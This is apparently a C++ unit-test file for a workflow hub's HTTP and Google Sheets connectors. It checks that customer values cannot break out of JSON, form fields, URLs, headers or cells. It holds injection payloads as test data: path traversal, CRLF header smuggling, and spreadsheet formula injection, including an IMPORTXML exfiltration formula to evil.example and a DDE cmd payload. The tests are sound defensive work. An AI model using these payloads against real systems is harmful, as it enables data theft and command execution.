// What customers write, in the requests of the connectors that take any value: it stays inside its field, its part of the
// address, its header and its cell.
#include "base/encoding.hpp"
#include "base/url.hpp"
#include "expr/template.hpp"
#include "golden/cases.hpp"

using namespace ieum;

namespace {

const char* const kHostile[] = {
    "\"",
    "\\",
    "\\\"",
    "}",
    "]}",
    "\",\"admin\":true,\"x\":\"",
    "\n",
    "\r\n",
    "\t",
    "\xe2\x80\xa8",  // U+2028
    "\xe2\x80\xa9",
    "{{ trigger.secret }}",
    "${7*7}",
    "</script>",
    "/../",
    "..",
    "../../admin",
    "?",
    "?a=b",
    "#",
    "&",
    "&admin=1",
    "=",
    "%",
    "%2e%2e%2f",
    "%0d%0a",
    ";",
    "@evil.example",
    "//evil.example",
    " ",
    "이음",
    "🛒",
};

Value parsed(std::string_view text) {
  auto value = parse_json(text);
  BOOST_REQUIRE_MESSAGE(value.has_value(), text);
  return *value;
}

host::Call begun(const char* operation, Map inputs, Map config = {}) {
  host::Call call;
  call.operation = operation;
  call.inputs = Value(std::move(inputs));
  call.connection = Value(std::move(config));
  call.step_key = "5f0c6f3e1a2b4c5d8e9f0a1b2c3d4e5f";
  return call;
}

// The request that comes of the `with` of a step of http.request.
host::Effect requested(const Value& with, const Value& names) {
  const auto inputs = expr::ValueTemplate::parse(with);
  BOOST_REQUIRE(inputs.has_value());
  const expr::MapScope scope(names);
  const auto rendered = inputs->render(scope);
  BOOST_REQUIRE_MESSAGE(rendered.has_value(), write_json(names));
  return golden::registry().find("http")->step(begun("request", *rendered->if_map()));
}

std::size_t segments_of(const std::string& address) {
  const std::string path = address.substr(0, address.find('?'));
  return static_cast<std::size_t>(std::count(path.begin(), path.end(), '/')) - 2;  // of https://
}

// What sheets writes for a row below the header 이름, 금액, 메모.
Value appended(const Value& name, const Value& amount, const Value& typed, std::string& option) {
  const host::Connector& sheets = *golden::registry().find("sheets");
  Map inputs{{"sheet", "1AbC/주문"}, {"row", Map{{"이름", name}, {"금액", amount}}}};
  if (!typed.is_null()) inputs.set("typed", typed);
  host::Call call =
      begun("row.append", std::move(inputs), Map{{"login", "service_account"}, {"client_email", "a@b.example"}});
  host::Effect effect = sheets.step(call);
  BOOST_REQUIRE(std::holds_alternative<host::HttpEffect>(effect));
  call.phase = host::Phase::resume;
  call.state = std::get<host::HttpEffect>(effect).state;
  call.outcome = Map{{"status", 200}, {"headers", Map{{"content-type", "application/json"}}}};
  call.body = R"({"range":"'주문'!A1:Z1","majorDimension":"ROWS","values":[["이름","금액","메모","_ieum"]]})";
  effect = sheets.step(call);
  BOOST_REQUIRE(std::holds_alternative<host::HttpEffect>(effect));
  const HttpRequest& request = std::get<host::HttpEffect>(effect).request;
  const std::string mark = "valueInputOption=";
  option = request.target.substr(request.target.find(mark) + mark.size());
  option.resize(std::min(option.size(), option.find('&')));
  const Value body = parsed(request.body);
  return body.get("values")->if_list()->front();
}

}  // namespace

BOOST_AUTO_TEST_SUITE(hostile_values)

BOOST_AUTO_TEST_CASE(EXP_10_a_body_is_a_tree_whatever_its_values_hold) {
  const Value with = parsed(
      R"({"url": "https://erp.example.com/orders", "method": "POST", "json": {"alone": "{{ trigger.text }}", "in": "<{{ trigger.text }}>", "list": ["{{ trigger.text }}", "{{ trigger }}"], "n": 1}})");
  for (const char* text : kHostile) {
    BOOST_TEST_CONTEXT(text) {
      const Value trigger = Map{{"text", text}};
      const auto effect = requested(with, Map{{"trigger", trigger}});
      BOOST_REQUIRE(std::holds_alternative<host::HttpEffect>(effect));
      const Value expected =
          Map{{"alone", text}, {"in", "<" + std::string(text) + ">"}, {"list", List{Value(text), trigger}}, {"n", 1}};
      BOOST_TEST(write_json(parsed(std::get<host::HttpEffect>(effect).request.body)) == write_json(expected));
    }
  }
}

BOOST_AUTO_TEST_CASE(EXP_10_a_form_keeps_its_fields) {
  const Value with = parsed(
      R"({"url": "https://erp.example.com/orders", "method": "POST", "form": {"a": "{{ trigger.text }}", "b": "2"}})");
  for (const char* text : kHostile) {
    const auto effect = requested(with, Map{{"trigger", Map{{"text", text}}}});
    BOOST_REQUIRE(std::holds_alternative<host::HttpEffect>(effect));
    const auto pairs = form_decode(std::get<host::HttpEffect>(effect).request.body);
    BOOST_REQUIRE_MESSAGE(pairs.has_value(), text);
    BOOST_TEST((*pairs == QueryPairs{{"a", text}, {"b", "2"}}), text);
  }
}

BOOST_AUTO_TEST_CASE(EXP_10_an_address_keeps_its_parts) {
  const Value with = parsed(
      R"({"url": "https://erp.example.com/orders/{{ url_encode(trigger.text) }}/lines?q={{ url_encode(trigger.text) }}&n=1"})");
  for (const char* text : kHostile) {
    BOOST_TEST_CONTEXT(text) {
      const auto effect = requested(with, Map{{"trigger", Map{{"text", text}}}});
      if (std::string_view(text) == "..") {
        BOOST_TEST(std::get<host::FailEffect>(effect).code == "bad_url");
        continue;
      }
      BOOST_REQUIRE(std::holds_alternative<host::HttpEffect>(effect));
      const std::string& target = std::get<host::HttpEffect>(effect).request.target;
      BOOST_TEST(target.starts_with("https://erp.example.com/orders/"));
      BOOST_TEST(segments_of(target) == 3u);
      BOOST_TEST(target.find('#') == std::string::npos);
      const auto query = form_decode(target.substr(target.find('?') + 1));
      BOOST_REQUIRE(query.has_value());
      BOOST_TEST((*query == QueryPairs{{"q", text}, {"n", "1"}}));
    }
  }
  for (const char* climbing :
       {"https://erp.example.com/a/../admin", "https://erp.example.com/a/./b", "https://erp.example.com/..",
        "https://erp.example.com/a/%2e%2E/admin", "https://erp.example.com/a/.%2e?x=1"}) {
    const auto effect = requested(Map{{"url", climbing}}, Map{});
    BOOST_REQUIRE(std::holds_alternative<host::FailEffect>(effect));
    BOOST_TEST(std::get<host::FailEffect>(effect).code == "bad_url", climbing);
  }
  for (const char* plain : {"https://erp.example.com/a..b/...", "https://erp.example.com/a?x=/../",
                            "https://erp.example.com/.well-known/x"})
    BOOST_TEST(std::holds_alternative<host::HttpEffect>(requested(Map{{"url", plain}}, Map{})), plain);
}

BOOST_AUTO_TEST_CASE(OUT_05_a_header_holds_one_line_and_none_of_the_hubs_own) {
  const auto code = [](const std::string& name, const Value& value) {
    const auto effect =
        requested(Map{{"url", "https://erp.example.com/"}, {"headers", Map{{Value(name), "{{ trigger.text }}"}}}},
                  Map{{"trigger", Map{{"text", value}}}});
    const auto* fail = std::get_if<host::FailEffect>(&effect);
    if (fail != nullptr) return fail->code;
    return std::string(*std::get<host::HttpEffect>(effect).request.headers.get(name));
  };
  for (const std::string& value :
       {std::string("a\rb"), std::string("a\nb"), std::string("a\r\nX-Evil: 1"),
        std::string("a\r\n\r\nGET / HTTP/1.1\r\nHost: x"), std::string("a\0b", 3), std::string("\x01"),
        std::string("\x7f"), std::string("\x1b[31m"), std::string("a\r\n b")})
    BOOST_TEST(code("X-A", value) == "invalid_header", hex_encode(value));
  for (const char* name : {"Host",
                           "host",
                           "Content-Length",
                           "Transfer-Encoding",
                           "TE",
                           "Trailer",
                           "Connection",
                           "Keep-Alive",
                           "Upgrade",
                           "Proxy-Connection",
                           "Expect",
                           "Accept-Encoding",
                           "Cookie",
                           "Authorization",
                           "Proxy-Authorization",
                           "X A",
                           "X:A",
                           "X\r\nEvil",
                           "X\tA",
                           "",
                           "헤더",
                           "X(A)"})
    BOOST_TEST(code(name, "1") == "invalid_header", name);
  // Letters beyond ASCII are bytes of a value like others (obs-text), and go as they are.
  BOOST_TEST(code("X-A", "이음 \xc3\xa9\t!") == "이음 \xc3\xa9\t!");
}

BOOST_AUTO_TEST_CASE(OUT_11_what_a_customer_wrote_is_never_a_formula) {
  const char* const texts[] = {"=1+1",     "=IMPORTXML(\"https://evil.example/?\"&A1)",
                               "+1+1",     "-1+1",
                               "@SUM(A1)", "\t=1+1",
                               "\r=1+1",   "\n=1+1",
                               "＝1+1",    "＋1",
                               "－1",      "＠A1",
                               "\"=1+1",   "'=1+1",
                               " =1+1",    "=cmd|' /C calc'!A0",
                               "%0A=1",    ";=1+1"};
  std::string option;
  for (const char* text : texts) {
    BOOST_TEST_CONTEXT(text) {
      const Value raw = appended(text, -5, {}, option);
      BOOST_TEST(option == "RAW");
      BOOST_TEST(*raw.if_list()->at(0).if_string() == text);
      BOOST_TEST(write_json(raw.if_list()->at(1)) == "-5");  // a number stays one
      // Where another column is read as typed, this one keeps its text by an apostrophe.
      const Value typed = appended(text, "-5", List{"금액"}, option);
      BOOST_TEST(option == "USER_ENTERED");
      BOOST_TEST(*typed.if_list()->at(0).if_string() == "'" + std::string(text));
      BOOST_TEST(write_json(typed.if_list()->at(1)) == "\"-5\"");
    }
  }
}

BOOST_AUTO_TEST_SUITE_END()
